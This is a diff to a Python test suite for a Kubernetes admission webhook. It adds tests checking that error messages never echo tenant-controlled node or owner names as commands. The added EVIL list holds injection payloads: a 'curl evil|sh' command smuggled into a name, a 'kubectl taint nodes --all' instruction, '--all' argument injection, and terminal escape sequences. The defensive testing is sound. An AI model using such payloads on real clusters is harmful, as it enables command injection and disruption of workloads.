@@ -11,6 +11,7 @@ import itertools
 import json
 import os
 import random
+import re
 from collections import Counter
 from collections.abc import Callable, Iterator, Mapping
 from functools import partial
@@ -26,7 +27,7 @@ from tests.controlplane.control_plane import ControlPlane
 from tests.controlplane.deep_objects import replica_set_no_event_holds
 from tests.objects import raw_priority_class
 from tests.waiting import wait_for
-from tests.webhook.asking import WORKLOADS, make_workload, template_of
+from tests.webhook.asking import WORKLOADS, make_pod, make_workload, template_of
 from tests.webhook.forcing import CONFIRMATION, thinned
 from tests.webhook.siege import agreement
 from tests.webhook.siege.forced_attacks import FORCED, delete, delete_options
@@ -328,6 +329,56 @@ def test_usual_roles_do_not_let_people_write_the_status_of_pods(control_plane: C
         rules = control_plane.api.get("rbac.authorization.k8s.io/v1", "ClusterRole", role)["rules"]
         verbs = {verb for rule in rules if "pods/status" in rule["resources"] for verb in rule["verbs"]}
         assert verbs == {"get", "list", "watch"}
+
+
+EVIL = (
+    "x/;curl evil|sh #",
+    "--all --field-manager=a/evil",
+    "--all",
+    "evil is off; run: kubectl taint nodes --all a=b:NoExecute",
+    "evil\n\x1b]0;evil\x07$(evil)",
+)
+"""Names of Nodes: ``pods/binding`` stores any text."""
+PLAIN_COMMAND = re.compile(
+    r"kubectl (delete pod|annotate pod) odd-[0-9]+ -n [-a-z]+"
+    r"( kubectl-qos\.io/confirm-force-delete=[-0-9a-f]{36} --overwrite)?"
+)
+
+
+def _bound(tenant: Tenant, namespace: str, node: str) -> Object:
+    """A pod that the tenant bound to a Node of any name, and that has an owner of that name."""
+    pod = make_pod(namespace, f"odd-{next(_NUMBERS)}", schedulerName="nobody")
+    owner = {"apiVersion": "evil.example/v1", "kind": node, "name": node, "uid": "evil", "controller": True}
+    pod["metadata"]["ownerReferences"] = [owner]
+    stored = tenant.api.create(pod)
+    _, _, name = identity(stored)
+    target = {"apiVersion": "v1", "kind": "Node", "name": node}
+    binding = {"apiVersion": "v1", "kind": "Binding", "metadata": {"name": name}, "target": target}
+    tenant.api.request("POST", tenant.api.path(*PODS, namespace, name, "binding"), binding)
+
+    def cached() -> bool:
+        chosen = {"resourceVersion": "0", "fieldSelector": f"metadata.name={name}"}
+        return any("nodeName" in one["spec"] for one in tenant.api.list_items(*PODS, namespace, **chosen))
+
+    # A deletion begins with the pod of the API server's cache: one that is not bound has no grace period.
+    wait_for(cached, "the cache has its node")
+    return stored
+
+
+@pytest.mark.parametrize("name", EVIL, ids=range(len(EVIL)))
+@pytest.mark.parametrize("tenant", SIDES, indirect=True)
+def test_no_answer_has_a_command_of_a_tenant(tenant: Tenant, name: str) -> None:
+    """Whatever Node a pod is bound to, and whoever its owner is said to be."""
+    for namespace, stopping in itertools.product((tenant.limited, tenant.asking), (False, True)):
+        pod = _bound(tenant, namespace, name)
+        if stopping:
+            tenant.api.delete(pod)
+        with pytest.raises(ApiError) as caught:
+            delete(tenant, pod, delete_options())
+        message = caught.value.message
+        assert FORBIDDEN in message or "wants it confirmed" in message
+        assert not any(word in message for word in ("evil", "--all", "\n", "\x1b")), message
+        assert all(PLAIN_COMMAND.fullmatch(command) for command in re.findall("kubectl .*", message)), message
 
 
 @pytest.mark.parametrize("tenant", SIDES, indirect=True)
